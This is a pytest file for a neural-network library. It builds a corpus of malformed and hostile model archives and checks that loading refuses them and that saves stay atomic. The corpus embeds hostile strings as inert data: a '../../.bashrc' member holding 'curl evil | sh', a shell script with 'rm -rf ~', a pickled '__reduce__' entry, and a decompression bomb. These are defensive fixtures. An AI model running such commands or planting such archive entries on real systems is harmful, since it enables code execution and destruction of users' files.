"""Model files from strangers and saves that go wrong: refused with a clear message, never run,
and the previous file always intact."""

import errno
import fcntl
import io
import json
import os
import signal
import stat
import struct
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path

import numpy as np
import pytest

import fastnn.io
from fastnn import MLP, ModelFileError

BAD = Path(__file__).parent / "data" / "bad_models"


def write_bad_models(folder: Path) -> None:
    """The corpus in tests/data/bad_models (run once by hand to rebuild it)."""
    folder.mkdir(parents=True, exist_ok=True)
    good = folder / "good.npz"
    MLP([4, 3, 2], seed=0).save(good)
    data = good.read_bytes()
    (folder / "truncated.npz").write_bytes(data[: len(data) // 2])
    (folder / "empty.npz").write_bytes(b"")
    (folder / "not_a_zip.npz").write_bytes(b"label,pixel0\n1,2\n")
    with np.load(good) as npz:
        arrays = {name: npz[name] for name in npz.files}
    meta = json.loads(arrays["meta"].tobytes())
    tampered = dict(arrays, params=arrays["params"] + np.float32(1))
    np.savez(folder / "tampered.npz", **tampered)
    for name, change in [("future_version.npz", {"version": 99}), ("other_format.npz", {"format": "keras"})]:
        changed = dict(meta, **change)
        np.savez(folder / name, **dict(arrays, meta=np.frombuffer(json.dumps(changed).encode(), np.uint8)))
    np.savez(folder / "pickled.npz", params=arrays["params"], meta=np.array([{"__reduce__": "os.system"}], dtype=object))
    wrong_shape = dict(meta, model=dict(meta["model"], sizes=[5, 3, 2]))
    wrong_shape["sha256"] = fastnn.io.checksum({"params": arrays["params"]})
    np.savez(folder / "wrong_shape.npz", params=arrays["params"],
             meta=np.frombuffer(json.dumps(wrong_shape).encode(), np.uint8))
    good.unlink()
    write_hostile_archives(folder, {"params": arrays["params"]}, meta)
    write_hostile_metadata(folder, {"params": arrays["params"]}, meta)


# -- hostile files: crafted by someone who knows the format (the checksum is public) -------------------

def npy_bytes(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array, allow_pickle=False)
    return buffer.getvalue()


def npy_header(descr: str, shape: str, data: bytes = b"") -> bytes:
    """A .npy file (format 1.0) with this header, whatever the data that follows."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}\n".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def write_zip(path: Path, members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive of these members (duplicate names allowed), with fixed dates: the same bytes
    every time. Returns them."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about a duplicate name
        with zipfile.ZipFile(path, "w", compression) as archive:
            for name, data in members:
                info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                info.compress_type = compression
                archive.writestr(info, data)
    return path.read_bytes()


def model_members(arrays: dict, meta: dict) -> list[tuple[str, bytes]]:
    """The members of a model file holding ``arrays`` and ``meta``, signed with a valid checksum."""
    meta = dict(meta, sha256=fastnn.io.checksum(arrays))
    return [(f"{name}.npy", npy_bytes(a)) for name, a in arrays.items()] + \
        [("meta.npy", npy_bytes(np.frombuffer(json.dumps(meta).encode(), np.uint8)))]


def patched(data: bytes, offset: int, fmt: str, value) -> bytes:
    return data[:offset] + struct.pack(fmt, value) + data[offset + struct.calcsize(fmt):]


def central_entry(data: bytes, name: str) -> int:
    """Offset of ``name``'s entry in a zip's central directory (its name starts 46 bytes in)."""
    at = data.find(b"PK\x01\x02")
    while data[at + 46:at + 46 + len(name)] != name.encode():
        at = data.find(b"PK\x01\x02", at + 1)
    return at


def write_hostile_archives(folder: Path, arrays: dict, meta: dict) -> None:
    """Archives and .npy members that would make a naive reader allocate, read or trust too much."""
    params = arrays["params"]
    members = model_members(arrays, meta)
    meta_member = members[-1]
    signed = dict(meta, sha256=fastnn.io.checksum(arrays))
    np.savez_compressed(folder / "deflated.npz", **arrays, meta=np.frombuffer(json.dumps(signed).encode(), np.uint8))
    # 16 MB of zeros deflated to 16 KB: a member that declares a thousand times its stored size
    write_zip(folder / "deflate_bomb.npz", [("params.npy", npy_bytes(np.zeros(4_000_000, np.float32))), meta_member],
              zipfile.ZIP_DEFLATED)
    write_zip(folder / "duplicate_meta.npz", members + [meta_member])
    write_zip(folder / "foreign_member.npz", members + [("../../.bashrc", b"curl evil | sh\n")])
    write_zip(folder / "too_many_members.npz", members + [(f"a{i}.npy", npy_bytes(np.zeros(0))) for i in range(70)])
    good = write_zip(folder / "size_lie.npz", members)
    entry = central_entry(good, "params.npy")
    lie = patched(patched(good, entry + 20, "<I", 2**31), entry + 24, "<I", 2**31)
    (folder / "size_lie.npz").write_bytes(lie)
    (folder / "encrypted.npz").write_bytes(patched(good, entry + 8, "<H", 0x1))
    end = good.rindex(b"PK\x05\x06")
    (folder / "huge_directory.npz").write_bytes(patched(good, end + 12, "<I", 100_000_000))
    entries, directory = struct.unpack_from("<H4xI", good, end + 10)  # its count, and where it starts
    zip64_end = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, 10**12, directory)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    (folder / "huge_zip64_directory.npz").write_bytes(good[:end] + zip64_end + locator + good[end:])
    data_end = good.index(npy_bytes(params)) + len(npy_bytes(params))
    (folder / "bad_crc.npz").write_bytes(good[:data_end - 1] + bytes([good[data_end - 1] ^ 0xFF]) + good[data_end:])
    for name, member in [("huge_shape.npz", npy_header("<f4", f"({10**40},)", b"\0" * 64)),
                         ("negative_shape.npz", npy_header("<f4", "(-5,)", b"\0" * 64)),
                         ("short_data.npz", npy_header("<f4", "(23,)", b"\0" * 64)),
                         ("long_header.npz", b"\x93NUMPY\x01\x00" + struct.pack("<H", 60_000) + b"{" * 100),
                         ("unicode_params.npz", npy_bytes(np.array(["os.system"]))),
                         ("complex_params.npz", npy_bytes(params.astype(np.complex64))),
                         ("not_npy.npz", b"#!/bin/sh\nrm -rf ~\n")]:
        write_zip(folder / name, [("params.npy", member), meta_member])
    write_zip(folder / "float_meta.npz", members[:-1] + [("meta.npy", npy_bytes(np.zeros(10)))])


def write_hostile_metadata(folder: Path, arrays: dict, meta: dict) -> None:
    """Valid archives, validly signed, whose metadata lies about the network or holds values of
    types and ranges that make numpy or Python raise (or allocate) in a reader that trusts it."""
    params = arrays["params"]

    def write(name, meta, arrays=arrays):
        write_zip(folder / name, model_members(arrays, meta))

    def changed(section, **fields):
        return dict(meta, **{section: dict(meta[section], **fields)})

    tutorial = MLP([784, 10, 10], seed=0)
    tutorial_meta = dict(meta, model=tutorial.config())
    tutorial_params = {"params": tutorial.get_params()}
    write("huge_units.npz", dict(tutorial_meta, model=dict(tutorial_meta["model"], sizes=[784, 100_000, 10])),
          tutorial_params)  # as reported: 7,960 parameters, sizes that need 79,500,010
    write("million_units.npz", changed("model", sizes=[4, 1_000_000, 2]))
    write("giant_sizes.npz", changed("model", sizes=[2**63, 2**63]))
    write("bool_sizes.npz", changed("model", sizes=[True, 3, 2]))
    write("many_layers.npz", changed("model", sizes=[1] * 1100, output="linear"),
          {"params": np.zeros(2198, np.float32)})
    write("list_activation.npz", changed("model", activation=["relu"]))
    write("unknown_setting.npz", changed("model", evil=1))
    write("float64_params.npz", meta, {"params": params.astype(np.float64)})
    write("nan_params.npz", meta, {"params": np.full_like(params, np.nan)})
    write("params_2d.npz", meta, {"params": params.reshape(-1, 1)})
    write("no_params.npz", meta, {})
    rng = meta["rng"]
    for name, state in [("rng_huge.npz", dict(rng["state"], state=2e200)),
                        ("rng_negative.npz", dict(rng["state"], inc=-1))]:
        write(name, dict(meta, rng=dict(rng, state=state)))
    write("rng_other_generator.npz", dict(meta, rng=dict(rng, bit_generator="MT19937")))
    write("epochs_infinite.npz", changed("training", epochs_trained=float("inf")))
    write("training_not_object.npz", dict(meta, training=[1, 2]))
    write("extra_not_object.npz", dict(meta, extra="rm -rf"))
    write("position_huge_rng.npz", changed("training", position={
        "rng": dict(rng, state=dict(rng["state"], state=2e200)), "batches_done": 1, "n_batches": 4}))
    adam = {"class": "Adam", "settings": {"lr": 0.001, "weight_decay": 0.0, "betas": [0.9, 0.999], "eps": 1e-8},
            "step": 3}
    moments = {"params": params, "optimizer_m": np.zeros_like(params), "optimizer_v": np.zeros_like(params)}
    for name, optimizer in [("step_infinite.npz", dict(adam, step=float("inf"))),
                            ("unknown_optimizer.npz", dict(adam, **{"class": "__import__"})),
                            ("string_lr.npz", dict(adam, settings=dict(adam["settings"], lr="0.1"))),
                            ("huge_betas.npz", dict(adam, settings=dict(adam["settings"], betas=[0.9] * 1000)))]:
        write(name, changed("training", optimizer=optimizer), moments)
    write("missing_moments.npz", changed("training", optimizer=adam), {"params": params, "optimizer_m": params * 0})
    write("future_version_true.npz", dict(meta, version=True))
    text = json.dumps(meta).encode()
    for name, raw in [("meta_is_a_list.npz", b"[" + text + b"]"),
                      ("deep_meta.npz", text[:-1] + b', "deep": ' + b"[" * 5_000 + b"]" * 5_000 + b"}"),
                      ("huge_number_meta.npz", text[:-1] + b', "n": ' + b"9" * 5000 + b"}"),
                      ("invalid_utf8_meta.npz", text[:-1] + b', "s": "\xff\xfe"}')]:
        write_zip(folder / name, [("params.npy", npy_bytes(params)),
                                  ("meta.npy", npy_bytes(np.frombuffer(raw, np.uint8)))])


# Damaged files; the crafted ones are checked, out of process, in tests/test_hostile_models.py.
DAMAGED = {
    "truncated.npz": "truncated or corrupt",
    "empty.npz": "not an .npz archive",
    "not_a_zip.npz": "not an .npz archive",
    "tampered.npz": "fails its checksum",
    "future_version.npz": "format version 99",
    "other_format.npz": "is not a fastnn model",
    "pickled.npz": "pickled object; refused",
    "wrong_shape.npz": "describes no valid network",
}


@pytest.mark.parametrize("name, message", DAMAGED.items())
def test_bad_model_files_are_refused_with_a_clear_message(name, message):
    with pytest.raises(ModelFileError, match=message) as error:
        MLP.load(BAD / name)
    assert name in str(error.value)


def test_the_corpus_is_what_the_generator_writes(tmp_path):
    write_bad_models(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in BAD.glob("*.npz"))


def test_a_full_disk_during_a_save_keeps_the_previous_file(tmp_path, monkeypatch):
    path = tmp_path / "model.npz"
    first = MLP([20, 8, 3], seed=1)
    first.save(path)

    def savez_until_the_disk_is_full(file, **arrays):
        file.write(b"PK\x03\x04" + b"\0" * 1000)  # part of an archive, then no space left
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(fastnn.io.np, "savez", savez_until_the_disk_is_full)
    with pytest.raises(ModelFileError, match="could not save .*No space left on device"):
        MLP([20, 8, 3], seed=2).save(path)
    monkeypatch.undo()
    assert np.array_equal(MLP.load(path).get_params(), first.get_params())
    assert [p.name for p in tmp_path.iterdir()] == ["model.npz"]  # no temporary file left behind


@pytest.mark.parametrize("position", [{"batches_done": 1.5, "n_batches": 4, "rng": {}},
                                      {"batches_done": -1, "n_batches": 4, "rng": {}},
                                      {"batches_done": 4, "n_batches": 4, "rng": {}}, "nowhere"])
def test_a_checkpoint_with_a_bad_position_is_refused(tmp_path, position):
    """The position inside an epoch reaches the kernel as batch indices: checked at load."""
    path = tmp_path / "ckpt.npz"
    MLP([4, 3, 2]).save(path)
    with np.load(path) as npz:
        arrays = {name: npz[name] for name in npz.files}
    meta = json.loads(arrays.pop("meta").tobytes())
    if isinstance(position, dict):  # a valid generator state: the numbers are what is wrong
        position = dict(position, rng=meta["rng"])
    meta["training"]["position"] = position
    np.savez(path, **arrays, meta=np.frombuffer(json.dumps(meta).encode(), np.uint8))
    with pytest.raises(ModelFileError, match="describes no valid network: invalid position inside an epoch"):
        MLP.load(path)


# -- what saves leave on disk: files of the umask's mode, and no temporary files of killed saves ---------

@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_saved_files_get_the_mode_the_umask_gives(tmp_path, umask):
    previous = os.umask(umask)
    try:
        MLP([4, 3, 2]).save(tmp_path / "model.npz")
        fastnn.io.atomic_write(tmp_path / "predictions.csv", lambda f: f.write(b"ImageId,Label\n"))
    finally:
        os.umask(previous)
    for name in ("model.npz", "predictions.csv"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o666 & ~umask, name


def temporary_file(path: Path, age: float) -> Path:
    """A file as a save killed ``age`` seconds ago leaves it (unlocked: its process is gone)."""
    path.write_bytes(b"PK\x03\x04 part of an archive")
    then = time.time() - age
    os.utime(path, (then, then))
    return path


def test_a_save_deletes_the_temporary_files_of_killed_saves_to_the_same_path(tmp_path):
    old = fastnn.io.STALE_TEMP_SECONDS + 5
    abandoned = [temporary_file(tmp_path / f".model.npz.{tag}.tmp", old) for tag in ("k3j_9x0a", "abcdefgh")]
    kept = [temporary_file(tmp_path / ".model.npz.recent00.tmp", 0),  # maybe a save about to lock it
            *(temporary_file(tmp_path / name, old) for name in (
                ".other.npz.abcdefgh.tmp", ".model.npz.abc.tmp", "model.npz.abcdefgh.tmp",
                ".model.npz.abcdefgh.tmp.bak", ".model.npz.ABCDEFGH.tmp", ".model.npz.abcdefgh.npz"))]
    os.mkfifo(tmp_path / ".model.npz.fifo0000.tmp")  # not a regular file: left alone (and no hang)
    locked = temporary_file(tmp_path / ".model.npz.live0000.tmp", old)
    with open(locked, "rb") as live_save:
        fcntl.flock(live_save.fileno(), fcntl.LOCK_EX)  # as a save still writing holds it
        MLP([4, 3, 2]).save(tmp_path / "model.npz")
    assert not any(p.exists() for p in abandoned)
    assert all(p.exists() for p in kept) and locked.exists() and (tmp_path / ".model.npz.fifo0000.tmp").exists()
    MLP([4, 3, 2]).save(tmp_path / "model.npz")  # its lock released: abandoned now
    assert not locked.exists()


KILLED_SAVE = """
import os, signal, sys
import fastnn.io

def write_then_die(f):
    f.write(b"PK\\x03\\x04 half an archive")
    f.flush()
    os.kill(os.getpid(), signal.SIGKILL)

fastnn.io.atomic_write(sys.argv[1], write_then_die)
"""

BLOCKED_SAVE = """
import sys
import fastnn.io

def write_when_told(f):
    print("writing", flush=True)
    sys.stdin.readline()
    f.write(b"the concurrent save")

fastnn.io.atomic_write(sys.argv[1], write_when_told)
"""


def test_the_temporary_file_of_a_save_killed_by_sigkill_is_deleted_by_the_next_save(tmp_path):
    path = tmp_path / "model.npz"
    killed = subprocess.run([sys.executable, "-c", KILLED_SAVE, str(path)], timeout=60)
    assert killed.returncode == -signal.SIGKILL
    [left] = tmp_path.glob(".model.npz.*.tmp")
    MLP([4, 3, 2]).save(path)
    assert left.exists()  # too recent: it could be a save that has not locked its file yet
    then = time.time() - fastnn.io.STALE_TEMP_SECONDS - 5
    os.utime(left, (then, then))
    MLP([4, 3, 2]).save(path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["model.npz"]


def test_cleaning_up_never_breaks_a_concurrent_save_to_the_same_path(tmp_path, monkeypatch):
    path = tmp_path / "model.npz"
    monkeypatch.setattr(fastnn.io, "STALE_TEMP_SECONDS", 0.0)  # only the lock protects the other save
    other = subprocess.Popen([sys.executable, "-c", BLOCKED_SAVE, str(path)], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True)
    try:
        assert other.stdout.readline() == "writing\n"  # its temporary file exists and is locked
        MLP([4, 3, 2]).save(path)
        assert len(list(tmp_path.glob(".model.npz.*.tmp"))) == 1
        other.stdin.write("go\n")
        other.stdin.flush()
        assert other.wait(timeout=60) == 0
    finally:
        other.kill()
        other.wait()
    assert path.read_bytes() == b"the concurrent save"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["model.npz"]
